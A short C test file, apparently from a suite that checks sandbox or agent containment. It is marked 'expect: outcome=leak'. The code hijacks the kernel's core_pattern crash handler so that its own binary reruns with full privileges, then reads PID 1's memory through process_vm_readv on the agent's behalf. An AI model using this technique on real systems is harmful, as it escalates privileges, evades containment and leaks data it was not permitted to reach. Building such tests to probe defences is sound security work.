// SPDX-License-Identifier: GPL-2.0-only
/*
 * Has the kernel start a helper for a crash, with all rights, that speaks for the agent.
 *
 * expect:
 *	outcome=leak
 */
#include <sys/uio.h>
#include <sys/wait.h>

#include "lie.h"

static ssize_t peek(unsigned long at, void *to, size_t len)
{
	struct iovec here = {to, len}, there = {(void *)at, len};

	return syscall(SYS_process_vm_readv, 1, &here, 1, &there, 1, 0);
}

int main(int argc, char **argv)
{
	char self[256] = "|", path[255];
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 1);
	int fd;

	if (argc > 1 && !strcmp(argv[1], "help")) {
		unload();
		lie_with(peek);
		return 0;
	}
	path[n > 0 ? n : 0] = '\0';
	fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
	snprintf(self, sizeof(self), "|%.200s help", path);
	if (fd < 0 || write(fd, self, strlen(self)) < 0)
		perror("core_pattern");
	if (fork() == 0)
		abort();
	wait(NULL);
	sleep(1);
	return 0;
}
